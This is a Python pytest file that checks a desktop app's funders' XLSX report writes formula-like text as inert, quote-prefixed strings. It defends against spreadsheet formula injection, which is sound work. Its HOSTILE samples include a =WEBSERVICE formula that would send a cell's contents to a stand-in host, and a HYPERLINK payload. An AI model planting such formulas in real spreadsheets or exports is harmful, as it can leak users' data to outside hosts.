"""The funders' spreadsheet holds values only: text typed at a point that looks like a
formula reaches the XLSX as text no spreadsheet runs (spec/cli.md, "Reports")."""

from __future__ import annotations

import io
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook

from genera_desktop.cli import main
from genera_desktop.reports import indicators
from genera_desktop.reports.xlsx import workbook_bytes
from genera_desktop.services import records
from genera_desktop.store.store import Store
from tests.conftest import ADMIN, PASSWORD, make_coordinator

HOSTILE = {
    "point": '=WEBSERVICE("http://example.invalid/?"&B4)',
    "context": "+SUM(1,2)",
    "organisation": "@HYPERLINK(\"http://example.invalid\")",
    "municipality": "-2+3",
    "status": "=1+1",
}


def hostile_store(data_dir: Path) -> Store:
    store = make_coordinator(data_dir)
    with store.unit_of_work() as uow:
        records.add(uow, "point", {"code": "VIS", "name": HOSTILE["point"]})
        ctx = records.add(uow, "housing_context", {"name": HOSTILE["context"],
                                                   "municipality": "Visano"})
        for _ in range(6):
            hh = records.add(uow, "household", {
                "point": "VIS", "municipality": HOSTILE["municipality"],
                "status": HOSTILE["status"], "housing_context": ctx})
            records.add(uow, "referral", {"household": hh, "date": "2026-02-01",
                                          "organisation": HOSTILE["organisation"]})
            records.add(uow, "visit", {"housing_context": ctx, "date": "2026-02-01"})
        uow.commit()
    return store


def assert_values_only(data: bytes) -> None:
    book = load_workbook(io.BytesIO(data))  # not data_only: formulas would show as such
    texts: dict[str, tuple[str, bool]] = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts[cell.value] = (cell.data_type, bool(cell.quotePrefix))
    for text in HOSTILE.values():
        assert texts.get(text) == ("s", True), (text, texts.get(text))


def test_formula_like_text_is_written_as_inert_text(tmp_path: Path) -> None:
    store = hostile_store(tmp_path / "s")
    try:
        with store.unit_of_work(read_only=True) as uow:
            ind = indicators.compute(uow.session, date(2026, 3, 2))
    finally:
        store.close()
    assert_values_only(workbook_bytes(ind))


def test_the_report_command_writes_inert_text(tmp_path: Path,
                                             monkeypatch: pytest.MonkeyPatch) -> None:
    hostile_store(tmp_path / "s").close()
    monkeypatch.setenv("GENERA_DATA_DIR", str(tmp_path / "s"))
    monkeypatch.setenv("GENERA_USER", ADMIN)
    monkeypatch.setenv("GENERA_PASSWORD", PASSWORD)
    out = tmp_path / "report.xlsx"
    assert main(["report", "--xlsx", str(out)]) == 0
    assert_values_only(out.read_bytes())
